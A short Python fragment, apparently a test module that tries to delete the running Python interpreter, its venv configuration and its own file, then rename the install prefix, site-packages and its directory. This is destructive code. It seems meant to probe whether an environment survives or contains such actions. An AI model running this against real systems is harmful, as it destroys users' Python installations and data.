"""Removes what it and others run on."""


def run(module_run):
    site = next((path for path in sys.path if path.endswith("-packages")), sys.prefix)
    for path in [sys.executable, f"{sys.prefix}/pyvenv.cfg", f"{sys.prefix}/complete", os.path.abspath(__file__)]:
        attempt(f"remove {path}", os.unlink, path)
        attempt(f"move {path}", os.rename, path, f"{os.environ['HOME']}/moved")
    for path in [sys.prefix, site, os.path.dirname(os.path.abspath(__file__))]:
        attempt(f"move {path}", os.rename, path, f"{path}.moved")
        attempt(f"move {path} home", os.rename, path, f"{os.environ['HOME']}/moved")
    return told()
